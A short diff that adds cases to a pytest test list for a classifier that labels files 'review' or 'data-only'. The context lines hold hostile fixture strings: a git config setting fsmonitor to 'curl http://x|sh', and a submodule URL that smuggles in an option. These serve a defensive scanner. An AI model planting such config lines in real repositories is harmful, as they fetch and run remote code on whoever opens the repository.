@@ -145,6 +145,9 @@ def test_no_change_of_a_document_raises_anything(text: str, at: int) -> None:
         ("[core]\n\tfsmonitor = curl http://x|sh\n", "review"),
         ('[submodule "x"]\n\turl = -u./x\n', "review"),
         ("jobs:\n  a:\n    steps:\n    - run: make test\n", "data-only"),
+        ("See https://example.org/data.zip\n\nhttps://example.org/houses.zip\n", "data-only"),
+        ("torch\nhttps://example.org/x-1.0-py3-none-any.whl\n", "review"),
+        ("var a=b?!!c:!!d.e;var f={g:!!n.h}", "data-only"),
     ],
 )
 def test_lines_get_the_verdict_of_what_they_make_others_do(text: str, verdict: str) -> None:
